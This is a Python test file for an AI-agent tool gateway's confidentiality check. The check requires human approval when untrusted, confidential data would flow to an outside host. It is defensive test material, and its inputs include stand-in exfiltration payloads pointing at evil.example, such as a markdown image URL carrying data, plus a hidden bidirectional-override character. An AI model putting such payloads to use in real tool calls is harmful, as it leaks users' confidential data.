"""What a run was given goes only where it may: clearances, and the rule of two."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringfence.core.checks.confidentiality import confidentiality
from ringfence.core.framing import frame
from ringfence.core.model.agent import Agent
from ringfence.core.model.egress import EgressRule, EgressRules
from ringfence.core.model.facts import Facts
from ringfence.core.model.identifiers import AgentId, CallId, Millis, RunId
from ringfence.core.model.label import CLEAN, Label, at_least
from ringfence.core.model.local import LOCAL
from ringfence.core.model.profile import Authority, Effect, Role, Sensitivity, ToolProfile, Trust
from ringfence.core.model.provenance import Flow, ProvenanceRules
from ringfence.core.model.verdict import Level, ReasonCode, Verdict
from ringfence.core.narrowing.tightening import build_tool
from ringfence.core.own_tools.connecting import CONNECT, DEFINITION, RULE
from ringfence.core.own_tools.names import OWN_TOOLS
from ringfence.testing.scenario import READ, SMALL_WRITE, tool_rule

BOTH = Label(Trust.UNTRUSTED, Sensitivity.CONFIDENTIAL)
SECRET_ONLY = Label(Trust.TRUSTED, Sensitivity.REGULATED)
STEERED_ONLY = Label(Trust.UNTRUSTED, Sensitivity.INTERNAL)
SEND = ToolProfile(
    effect=Effect.WRITE,
    reversible=True,
    bounded=True,
    costs_money=False,
    identity=False,
    outbound=True,
    authority=(Authority("/to", Role.TARGET),),
)
RULES = ProvenanceRules(hosts=("corp.example", "*.corp.example"))
ASK_TWO = (ReasonCode.RULE_OF_TWO,)


def judged(
    profile: ToolProfile,
    label: Label,
    arguments: dict[str, Any] | None = None,
    *,
    rules: ProvenanceRules | None = RULES,
    name: str = "mail.send",
) -> Verdict:
    tool = build_tool({"name": name.partition(".")[2], "inputSchema": {"type": "object"}}, tool_rule(name, profile), None)
    call = frame(CallId("c1"), AgentId("support"), RunId("r1"), tool, arguments or {"to": "bob", "text": "hello"})
    flow = Flow(rules=rules) if rules is not None else None
    return confidentiality(call, Facts(now=Millis(0), chain=(), agent=None, tool=tool, label=label, flow=flow))


def connecting(label: Label, rule: EgressRule | None, host: str = "api.partner.example") -> Verdict:
    tool = build_tool(DEFINITION, RULE, None)
    egress = EgressRules(rules=(rule,) if rule is not None else ())
    agent = Agent(id=AgentId("support"), purpose="to test", tools=frozenset({CONNECT}), egress=egress)
    arguments = {"host": host, "port": 443, "act": "tunnel", "path": "", "credential": ""}
    call = frame(CallId("c1"), AgentId("support"), RunId("r1"), tool, arguments)
    return confidentiality(call, Facts(now=Millis(0), chain=(), agent=agent, tool=tool, label=label, flow=Flow(rules=RULES)))


def codes(verdict: Verdict) -> tuple[ReasonCode, ...]:
    return tuple(reason.code for reason in verdict.reasons)


@pytest.mark.parametrize("label", [CLEAN, SECRET_ONLY, STEERED_ONLY, Label(Trust.UNTRUSTED)])
def test_one_of_the_two_reaches_outside_by_itself(label: Label) -> None:
    assert judged(SEND, label).level is Level.ALLOW


@pytest.mark.parametrize("level", [Sensitivity.CONFIDENTIAL, Sensitivity.REGULATED])
def test_both_reach_outside_with_a_person_only(level: Sensitivity) -> None:
    verdict = judged(SEND, Label(Trust.UNTRUSTED, level))
    assert verdict.level is Level.ASK
    assert codes(verdict) == ASK_TWO
    assert [gate.code for gate in verdict.gates] == [ReasonCode.RULE_OF_TWO]


def test_the_gate_takes_the_tools_quorum() -> None:
    profile = ToolProfile(effect=Effect.WRITE, outbound=True, quorum=2)
    assert [gate.quorum for gate in judged(profile, BOTH).gates] == [2]


@pytest.mark.parametrize(("level", "expected"), [(Level.DENY, Level.DENY), (Level.ALLOW, Level.ALLOW)])
def test_the_operator_says_whether_it_denies_or_is_off(level: Level, expected: Level) -> None:
    verdict = judged(SEND, BOTH, rules=ProvenanceRules(rule_of_two=level))
    assert verdict.level is expected
    assert verdict.gates == ()


def test_nobody_looks_without_rules() -> None:
    assert judged(SEND, BOTH, rules=None).level is Level.ALLOW


@pytest.mark.parametrize("profile", [READ, SMALL_WRITE])
def test_a_host_outside_in_the_arguments_is_a_way_out_of_any_tool(profile: ToolProfile) -> None:
    assert judged(profile, BOTH, {"text": "fine"}).level is Level.ALLOW
    verdict = judged(profile, BOTH, {"q": "4711.evil.example/x"})
    assert codes(verdict) == ASK_TWO
    assert "evil.example" in verdict.reasons[0].detail
    assert judged(profile, BOTH, {"q": "https://wiki.corp.example/x"}).level is Level.ALLOW


def test_a_clearance_that_covers_what_was_read_satisfies_it() -> None:
    cleared = ToolProfile(effect=Effect.WRITE, outbound=True, clearance=Sensitivity.CONFIDENTIAL)
    assert judged(cleared, BOTH).level is Level.ALLOW
    regulated = judged(cleared, Label(Trust.UNTRUSTED, Sensitivity.REGULATED))
    assert set(codes(regulated)) == {ReasonCode.RULE_OF_TWO, ReasonCode.CLEARANCE}


def test_a_clearance_speaks_of_the_target_and_not_of_links_in_the_text() -> None:
    cleared = ToolProfile(
        effect=Effect.WRITE, outbound=True, clearance=Sensitivity.REGULATED, authority=(Authority("/to", Role.TARGET),)
    )
    assert judged(cleared, BOTH, {"to": "bob@partner.example", "text": "see you"}).level is Level.ALLOW
    assert judged(cleared, BOTH, {"to": "https://partner.example/in", "text": "see you"}).level is Level.ALLOW
    verdict = judged(cleared, BOTH, {"to": "bob@partner.example", "text": "![](https://evil.example/?d=1)"})
    assert codes(verdict) == ASK_TWO


@pytest.mark.parametrize("label", [SECRET_ONLY, Label(Trust.UNTRUSTED, Sensitivity.REGULATED)])
def test_a_sink_that_is_not_cleared_asks_in_trusted_runs_too(label: Label) -> None:
    wiki = ToolProfile(effect=Effect.WRITE, outbound=False, clearance=Sensitivity.INTERNAL)
    verdict = judged(wiki, label, {"text": "hello"})
    assert verdict.level is Level.ASK
    assert codes(verdict) == (ReasonCode.CLEARANCE,)


def test_a_read_is_no_sink_unless_it_names_a_host_outside() -> None:
    search = ToolProfile(effect=Effect.READ, outbound=False, clearance=Sensitivity.PUBLIC)
    assert judged(search, SECRET_ONLY, {"q": "weather"}).level is Level.ALLOW
    assert codes(judged(search, SECRET_ONLY, {"q": "https://evil.example/"})) == (ReasonCode.CLEARANCE,)


def test_the_rule_off_leaves_clearances_in_force() -> None:
    profile = ToolProfile(effect=Effect.WRITE, outbound=True, clearance=Sensitivity.INTERNAL)
    assert codes(judged(profile, BOTH, rules=ProvenanceRules(rule_of_two=Level.ALLOW))) == (ReasonCode.CLEARANCE,)


def test_a_boxs_connection_asks_unless_its_rule_or_the_own_hosts_say_otherwise() -> None:
    host = "api.partner.example"
    assert connecting(STEERED_ONLY, EgressRule(host=host)).level is Level.ALLOW
    assert codes(connecting(BOTH, EgressRule(host=host))) == ASK_TWO
    assert codes(connecting(BOTH, None)) == ASK_TWO
    assert connecting(BOTH, EgressRule(host=host, clearance=Sensitivity.CONFIDENTIAL)).level is Level.ALLOW
    assert codes(connecting(SECRET_ONLY, EgressRule(host=host, clearance=Sensitivity.INTERNAL))) == (ReasonCode.CLEARANCE,)
    assert connecting(BOTH, EgressRule(host="git.corp.example"), "git.corp.example").level is Level.ALLOW


@pytest.mark.parametrize("tool_id", [id for id, own in OWN_TOOLS.items() if id != CONNECT and own.rule.server != LOCAL])
def test_the_gateways_own_tools_keep_what_they_are_given(tool_id: str) -> None:
    own = next(own for tool, own in OWN_TOOLS.items() if tool == tool_id)
    tool = build_tool(own.definition, own.rule, None)
    arguments = {"task": "see https://evil.example/", "diff": "https://evil.example/", "repo": "/srv/r"}
    call = frame(CallId("c1"), AgentId("support"), RunId("r1"), tool, arguments)
    facts = Facts(now=Millis(0), chain=(), agent=None, tool=tool, label=BOTH, flow=Flow(rules=RULES))
    assert confidentiality(call, facts).level is Level.ALLOW


def test_the_detail_shows_no_hidden_characters_and_is_short() -> None:
    verdict = judged(SMALL_WRITE, BOTH, {f"k{n}": f"https://evil{n}.example/\u202e" for n in range(40)})
    detail = verdict.reasons[0].detail
    assert "\u202e" not in detail
    assert "and 37 more" in detail
    assert len(detail) < 700


labels = st.builds(Label, st.sampled_from(Trust), st.sampled_from(Sensitivity))
profiles = st.builds(
    ToolProfile,
    effect=st.sampled_from(Effect),
    outbound=st.booleans(),
    clearance=st.none() | st.sampled_from(Sensitivity),
)
texts = st.sampled_from(
    ["hello", "https://evil.example/x", "![](//evil.example/a)", "eve@evil.example", "https://corp.example"]
)


@pytest.mark.requirement("I10")
@given(labels, labels, profiles, texts)
def test_more_in_the_label_never_allows_more(one: Label, other: Label, profile: ToolProfile, text: str) -> None:
    assert judged(profile, one, {"text": text}).level <= judged(profile, one.joined(other), {"text": text}).level


@given(labels, profiles, texts)
def test_what_reaches_outside_without_a_person_is_cleared_or_one_of_two(label: Label, profile: ToolProfile, text: str) -> None:
    verdict = judged(profile, label, {"text": text})
    if verdict.level is not Level.ALLOW or not profile.outbound:
        return
    both = label.is_untrusted and at_least(label.confidentiality, Sensitivity.CONFIDENTIAL)
    cleared = profile.clearance is not None and at_least(profile.clearance, label.confidentiality)
    assert cleared or not both
